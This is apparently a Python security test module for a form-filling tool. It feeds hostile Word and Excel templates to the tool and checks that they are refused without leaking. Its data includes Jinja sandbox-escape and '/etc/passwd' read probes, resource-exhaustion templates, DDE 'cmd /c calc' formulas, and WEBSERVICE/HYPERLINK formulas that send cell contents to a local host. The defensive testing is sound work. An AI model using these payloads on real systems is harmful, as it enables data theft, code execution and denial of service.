"""Untrusted forms at ``fill``: what their placeholders may cost and see, and what their package may contain."""

import json
from collections.abc import Iterator, Sequence
from functools import cache, partial
from pathlib import Path
from typing import Final
from xml.sax.saxutils import escape

from tests.attacks.frame import Attack, Expected, Run
from tests.attacks.material import ESCAPES, lay, record
from tests.attacks.templates import ESCAPES_OUT, EXPENSIVE, LOOKS
from tests.kepu_excel import made_workbooks as workbooks
from tests.kepu_word.form import made_forms as made

EITHER, REFUSED = Expected.EITHER, Expected.REFUSED
_EVERY: Final = 3
"""Each so many-th costly expression of wording templates is tried: what runs them is the same."""

TAGS: Final = (
    "{% for x in range(9999) %}{% for y in range(9999) %}x{% endfor %}{% endfor %}",
    "{% for x in range(9999) %}{{ 正文 }}{% endfor %}",
    "{% for x in range(9999) recursive %}{{ loop(range(9999)) }}{% endfor %}",
    "{% set x = 'x' %}" + "{% set x = x ~ x %}" * 60 + "{{ x }}",
    "{% if 1 %}" * 300 + "{% endif %}" * 300,
    "{% for a in [1] %}" * 30 + "{% endfor %}" * 30,
    "{{ " + "(" * 5_000 + "1" + ")" * 5_000 + " }}",
    "{{ 1 }}" * 9_000,
    "{{" * 100_000,
    "{{ a }" * 100_000,
    "{% endfor %}" * 3_000,
    "{{ '“" * 50_000 + " }}",
    "{# " + "x" * 500_000,
    "{ a.b " * 60_000,
    "{社区.名称}" * 20_000,
    "}} " * 60_000,
    "{{ 栏目(栏目) }}",
    "{{ 照片('../../home/canary.txt') }}",
    "{{ 照片({'file': '/etc/passwd'}) }}",
    "{{ 照片(照片) }}",
)  # fmt: skip
"""What costs much, or looks elsewhere: whole paragraphs."""

_P = '<w:p><w:r><w:t xml:space="preserve">%s</w:t></w:r></w:p>'
_CELL = f"<w:tc>{_P}</w:tc>"
BODIES: Final = {
    "rows of a large row": "<w:tbl><w:tr>"
    + _CELL % "{% for x in range(9999) %}"
    + _CELL % ("x" * 200_000)
    + _CELL % "{% endfor %}"
    + "</w:tr></w:tbl><w:p/>",
    "tables 60 deep": "<w:tbl><w:tr><w:tc>" * 60 + _P % "{{ 正文 }}" + "<w:p/></w:tc></w:tr></w:tbl>" * 60,
    "a placeholder over 20,000 runs": "<w:p>"
    + "<w:r><w:t>{</w:t></w:r>" * 2
    + "<w:r><w:t>a</w:t></w:r>" * 20_000
    + "<w:r><w:t>}</w:t></w:r>" * 2
    + "</w:p>",
    "1,000 paragraphs with a loop each": (_P % "{% for x in range(3) %}{{ x }}{% endfor %}") * 1_000,
    "statements that cross": _P % "{% if 1 %}" + _P % "{% for x in range(3) %}" + _P % "{% endif %}" + _P % "{% endfor %}",
    "text boxes in text boxes": "<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>" * 25
    + _P % "{{ 社区.名称 }}"
    + "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>" * 25,
    "a cell 2 billion twips wide": '<w:tbl><w:tr><w:tc><w:tcPr><w:tcW w:w="2000000000" w:type="dxa"/></w:tcPr>'
    + _P % "{{ 正文 }}"
    + "</w:tc></w:tr></w:tbl><w:p/>",
    "a cell that spans 2 billion columns": '<w:tbl><w:tblGrid><w:gridCol w:w="5"/></w:tblGrid><w:tr><w:tc><w:tcPr>'
    '<w:gridSpan w:val="999999999"/></w:tcPr>' + _P % "{{ 正文 }}" + "</w:tc></w:tr></w:tbl><w:p/>",
    "2,000 fields that end nowhere": "<w:p>"
    + ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>TITLE</w:instrText></w:r><w:r><w:fldChar'
       ' w:fldCharType="separate"/></w:r><w:r><w:t>{{ 社区.名称 }}</w:t></w:r>') * 2_000
    + "</w:p>",
    "10,000 cells that are merged beyond a loop": "<w:tbl>"
    + "<w:tr>" + _CELL % "{% for x in range(9) %}" + '<w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr><w:p/></w:tc>' * 99
    + _CELL % "{% endfor %}" + "</w:tr>"
    + ("<w:tr>" + "<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>" * 101 + "</w:tr>") * 100
    + "</w:tbl><w:p/>",
    "a cell merged over a number of columns that is none": '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="x"/><w:vMerge'
    ' w:val="restart"/></w:tcPr>' + _P % "{% for x in range(9) %}" + "</w:tc>" + _CELL % "{% endfor %}" + "</w:tr></w:tbl><w:p/>",
    "1,000 bookmarks in what is repeated": _P % "{% for x in range(99) %}"
    + '<w:p><w:bookmarkStart w:id="1" w:name="a"/><w:bookmarkEnd w:id="1"/></w:p>' * 1_000
    + _P % "{% endfor %}",
    "marks of ours": '<w:p><?kepu-form 0?><w:r><w:t>&lt;?kepu-form 1?&gt;{{ 社区.名称 }}</w:t></w:r></w:p>',
}  # fmt: skip


_BLANK: Final = "<w:tc><w:p/></w:tc>"
BLANKS: Final = {
    "2,000 labels": "<w:tbl>"
    + "".join(f"<w:tr>{_CELL % f'开展科普活动宣传培训人次{number}'}{_BLANK}</w:tr>" for number in range(2_000))
    + "</w:tbl><w:p/>",
    "heads above 900 blank rows of 60": f"<w:tbl><w:tr>{_CELL % '活动名称' * 60}</w:tr>"
    + f"<w:tr>{_BLANK * 60}</w:tr>" * 900
    + "</w:tbl><w:p/>",
    "900 sentences of blanks": (_P % ("开展活动____场，培训____人次，" * 60)) * 900,
    "a line of 200,000 blanks": _P % ("_ " * 200_000),
    "a day of 100,000 blanks": _P % ("_" * 100_000 + "年" * 100_000 + "月"),
    "controls 60 deep": "<w:sdt><w:sdtPr><w:showingPlcHdr/></w:sdtPr><w:sdtContent>" * 60
    + "<w:p/>"
    + "</w:sdtContent></w:sdt>" * 60,
    "tables 60 deep": "<w:tbl><w:tr><w:tc>" * 60 + _P % "人数" + "<w:p/></w:tc></w:tr></w:tbl>" * 60,
    "a cell that spans 2 billion columns": '<w:tbl><w:tr><w:trPr><w:gridBefore w:val="999999999"/>'
    '<w:trHeight w:val="99999999999999999999"/></w:trPr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>'
    + _P % "单位名称"
    + f"</w:tc>{_BLANK}</w:tr></w:tbl><w:p/>",
    "500 cells that go on below": "<w:tbl>"
    + f'<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr>{_P % "场次"}</w:tc>{_BLANK}</w:tr>' * 500
    + "</w:tbl><w:p/>",
    "a control with a name of 100,000 characters": f'<w:sdt><w:sdtPr><w:alias w:val="{"名称." * 30_000}"/>'
    "<w:showingPlcHdr/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>",
    "labels with braces": f"<w:tbl><w:tr>{_CELL % '{{ 9 ** 9 ** 9 }}'}{_BLANK}</w:tr>"
    f"<w:tr>{_CELL % '科普培训 }}{{ 正文'}{_BLANK}</w:tr></w:tbl><w:p/>",
}  # fmt: skip
"""Forms whose blanks are found."""

FILLED: Final = {
    "3,000 rows more": f"<w:tbl><w:tr>{_CELL % '单位名称'}{_CELL % '人数'}</w:tr>"
    + f"<w:tr>{_CELL % '名称'}{_CELL % '9'}</w:tr>" * 3_000
    + "</w:tbl><w:p/>",
    "40,000 lines": (_P % "单位名称：单位名称：") * 40_000,
    "a line of 2 million characters": _P % ("单位名称：" * 400_000),
    "figures of 100,000 digits": f"<w:tbl><w:tr>{_CELL % '单位名称'}{_CELL % ('9' * 100_000)}</w:tr></w:tbl><w:p/>",
    "another document": _P % "会议纪要",
}  # fmt: skip
"""Documents that are said to be of a form."""


def attacks() -> Iterator[Attack]:
    """Yield all attacks of forms."""
    for name, body in BLANKS.items():
        data = made.with_body(body)
        laid = partial(_laid, data, command=("form", "prepare", "form.docx", "-o", "out.docx"))
        yield Attack(f"form.docx: {name}", "prepare", laid, checks=(_sees_nothing,))
    for name, body in FILLED.items():
        yield Attack(f"filled.docx: {name}", "import", partial(_said_filled, made.with_body(body)))
    for expression in EXPENSIVE[::_EVERY]:
        yield _typed(f"{{{{ {expression} }}}}")
    for expression in ESCAPES_OUT:
        yield _typed(f"{{{{ {expression} }}}}", checks=True)
    for text in LOOKS:
        yield _typed(text, REFUSED, checks=True)
    for text in TAGS:
        yield _typed(text, checks=True)
    for name, body in BODIES.items():
        yield Attack(f"form.docx: {name}", "fill", partial(_laid, made.with_body(body)))
    for name, text in ESCAPES.items():
        if text.isprintable() or not any(ord(each) < 32 for each in text):
            yield _typed(f"{text}{{{{ nothing{text} }}}}", name=f"a placeholder with {name}")
    yield from _of_workbooks()
    checked: tuple[tuple[str, ...], ...] = (
        ("form", "check", "form.docx"),
        ("batch", "a.json", "-o", "out", "-q", "-j", "1", "--form", "form.docx"),
    )
    for asked in checked:
        data = made.with_texts("{{ ''.__class__ }}", "{{ 9 ** 9 ** 9 }}")
        yield Attack("form.docx: two placeholders", asked[0], partial(_laid, data, command=asked), REFUSED)


_SHEET: Final = "xl/worksheets/sheet1.xml"
_ROW: Final = '<row r="%d"><c r="A%d" t="inlineStr"><is><t>%s</t></is></c></row>'


def _loop(inner: str) -> str:
    """Return rows of which the second is repeated."""
    return _ROW % (1, 1, "{% for x in range(9999) %}") + _ROW % (2, 2, inner) + _ROW % (3, 3, "{% endfor %}")


FORMULAS: Final = (
    'WEBSERVICE("http://127.0.0.1:9/"&amp;A1)', '_xlfn.IMAGE("http://127.0.0.1:9/"&amp;A1)', "cmd|'/c calc'!A0",
    'RTD("x",,"y")', "[1]S!A1", "'C:\\[x.xls]S'!A1", "SUM(A1,[1]S!A1)", 'HYPERLINK("http://127.0.0.1:9/?"&amp;A1,"x")',
    'HYPERLINK("file:///etc/passwd")', "CALL(1)", "EXEC(1)", 'INDIRECT("[x.xls]S!A1")', '_xlfn.STOCKHISTORY("x")',
)  # fmt: skip
"""What fetches, runs, or carries away what stands in cells."""
COSTLY: Final = (
    "(" * 100_000, "SUM(" * 100_000, "A1+" * 300_000 + "1", "'" * 100_000, '"' * 99_999, "A1:" * 100_000, "[" * 100_000,
    " A1 " * 100_000, "a." * 100_000, "$" * 100_000,
)  # fmt: skip
SHEETS: Final = {
    "a loop of long rows": _loop("x" * 30_000),
    "loops over loops": _loop("{% for y in range(9999) %}x{% endfor %}"),
    "a row of the number 10**7": _ROW % (10_000_000, 1, "{{ 1 }}"),
    "rows that go back": _ROW % (5, 5, "{{ 1 }}") + _ROW % (2, 2, "x"),
    "the same row twice": (_ROW % (5, 5, "{{ 1 }}")) * 2,
    "a cell elsewhere": _ROW % (5, 9, "{{ 1 }}"),
    "a cell of no column": '<row r="1"><c r="ZZZZ1"/></row>' + _ROW % (2, 2, "{{ 1 }}"),
    "a text of the number 10**9": '<row r="1"><c r="A1" t="s"><v>999999999</v></c></row>' + _ROW % (2, 2, "{{ 1 }}"),
    "a style of the number 10**9": '<row r="1"><c r="A1" s="999999" t="inlineStr"><is><t>{{ 1 }}</t></is></c></row>',
    "a row in the last": _loop("x") + _ROW % (1_048_576, 1_048_576, "end"),
    "900 placeholders in a cell": _ROW % (1, 1, "{{ 1 }}" * 900),
    "a cell of nothing but braces": _ROW % (1, 1, "{" * 200_000),
    "50,000 rows with a formula": _loop("x")
    + "".join(f'<row r="{row}"><c r="A{row}"><f>SUM(A2:A2)</f></c></row>' for row in range(4, 50_004)),
    "marks of ours": _ROW % (1, 1, "&#xE000;{{ 1 }}_x0000__x005F_x0000_"),
}
TAILS: Final = {
    "merged cells without end": "<mergeCells>" + '<mergeCell ref="A2:B2"/>' * 50_000 + "</mergeCells>",
    "areas that are none": '<conditionalFormatting sqref="x 1:2 A:B A0 ZZZZ9 A99999999"/>',
    "100,000 areas in a rule": f'<conditionalFormatting sqref="{"A2 " * 100_000}"/>',
    "a break of the number 10**20": '<rowBreaks><brk id="99999999999999999999"/></rowBreaks>',
}


def _of_workbooks() -> Iterator[Attack]:
    """Yield attacks of forms that are workbooks: their formulas, cells, areas and parts."""
    for expression in ESCAPES_OUT[::_EVERY]:
        yield _book(f"{{{{ {expression} }}}}"[:70], _ROW % (1, 1, f"{{{{ {escape(expression)} }}}}"), checks=True)
    for formula in FORMULAS:
        rows = _ROW % (1, 1, "{{ 1 }}") + f'<row r="2"><c r="A2"><f>{formula}</f></c></row>'
        yield _book(f"the formula {formula}"[:70], rows, expected=REFUSED)
        tail = f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>{formula}</formula></cfRule></conditionalFormatting>'
        yield _book(f"the rule {formula}"[:70], _ROW % (1, 1, "{{ 1 }}"), tail, expected=REFUSED)
    for formula in COSTLY:
        yield _book(f"the formula {formula[:9]}…", _loop("x") + f'<row r="9"><c r="A9"><f>{formula}</f></c></row>')
    for name, rows in SHEETS.items():
        yield _book(name, rows)
    for name, tail in TAILS.items():
        yield _book(name, _loop("x"), tail)
    for name in (
        "xl/vbaProject.bin",
        "xl/externalLinks/externalLink1.xml",
        "xl/connections.xml",
        "xl/embeddings/a.bin",
    ):
        data = workbooks.changed(_plain("{{ 1 }}"), {name: lambda _: b"<x/>"})
        yield Attack(f"form.xlsx: {name}", "fill", partial(_laid, data, command=_FILL), REFUSED)
    for text in ("=cmd|' /c calc'!A0", '=HYPERLINK("http://127.0.0.1:9/","x")', "+1", "-1", "@SUM(1)"):
        data = _plain("{{ (科普培训.场次 | 第一个).主题 }}")
        yield Attack(f"form.xlsx: a record with {text}", "fill", partial(_laid, data, command=_FILL, topic=text))


@cache
def _plain(text: str) -> bytes:
    """Return a workbook that has a text in its first cell, and nothing else."""
    return workbooks.with_cells({"A1": text})


_FILL: Final = ("fill", "form.xlsx", "a.json", "-o", "out")


def _book(name: str, rows: str, tail: str = "", expected: Expected = EITHER, *, checks: bool = False) -> Attack:
    def change(xml: bytes) -> bytes:
        begin, end = xml.index(b"<sheetData>"), xml.index(b"</sheetData>")
        rest = xml[end:].replace(b"</sheetData>", b"</sheetData>" + tail.encode(), 1)
        return xml[:begin] + b"<sheetData>" + rows.encode() + rest

    data = workbooks.changed(_plain("x"), {_SHEET: change})
    made_by = partial(_laid, data, command=_FILL)
    return Attack(f"form.xlsx: {name}", "fill", made_by, expected, checks=(_sees_nothing,) if checks else ())


def _typed(text: str, expected: Expected = EITHER, *, name: str = "", checks: bool = False) -> Attack:
    shown = name or text[:70]
    return Attack(
        f"form.docx: {shown}",
        "fill",
        partial(_laid, made.with_texts(f"出{text}")),
        expected,
        checks=(_sees_nothing,) if checks else (),
    )


def _laid(
    form: bytes,
    folder: Path,
    command: Sequence[str] = ("fill", "form.docx", "a.json", "-o", "out"),
    topic: str = "应急救护",
) -> Sequence[str]:
    """Lay a form and a record, and return how they are used."""
    sections = [{"kind": "training", "sessions": [{"topic": topic, "attendance": 60}, {"topic": "识谣"}]}]
    lay(folder, "a.json", json.dumps(record(sections=sections), ensure_ascii=False))
    lay(folder, next((each for each in command if each.startswith("form.")), "form.docx"), form)
    return list(command)


def _said_filled(filled: bytes, folder: Path) -> Sequence[str]:
    """Lay a document and the form that it is said to be of."""
    lay(folder, "filled.docx", filled)
    rows = (("单位名称", "{{ 社区.名称 }}"), ("人数", "{{ 社区.居民 }}"))
    form = made.with_body(made.table(*rows) + made.paragraph("单位名称：{{ 社区.名称 }}"))
    lay(folder, "form.docx", form)
    return ["import", "filled.docx", "--form", "form.docx", "-o", "out"]


def _sees_nothing(run: Run) -> str | None:
    texts = run.texts() + run.stderr.decode("utf-8", "replace")
    for mark in ("<class", "object at 0x", "root:x:", "<function", "<bound method", "built-in method"):
        if mark in texts:
            return f"shows {mark!r}"
    return None
